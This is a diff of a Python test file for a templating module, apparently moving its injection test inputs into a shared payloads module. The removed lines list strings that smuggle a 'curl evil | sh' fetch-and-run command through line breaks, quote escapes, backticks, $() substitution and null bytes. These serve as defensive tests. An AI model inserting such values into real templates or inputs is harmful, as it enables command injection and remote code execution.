@@ -22,18 +22,7 @@ from megacpp_env.templating import (
     render_template,
 )
 from tests.fixtures.spec import load_data
-
-PAYLOADS = [
-    "x\nRUN curl evil | sh",
-    "x\r\nRUN curl evil | sh",
-    "x \\",
-    "x' && curl evil | sh",
-    'x" ; curl evil | sh',
-    "x`curl evil`y",
-    "x$(curl evil)",
-    "x\u2028RUN curl evil",
-    "x\x00y",
-]
+from tests.payloads import LINE_BREAKERS, PAYLOADS
 
 
 def _string_leaves(node, path=()):
@@ -105,7 +94,6 @@ def test_filters():
             fn(None)
 
 
-LINE_BREAKERS = {"x\nRUN curl evil | sh", "x\r\nRUN curl evil | sh", "x \\", "x\u2028RUN curl evil", "x\x00y"}
 
 
 def _instructions(text: str) -> list[str]:
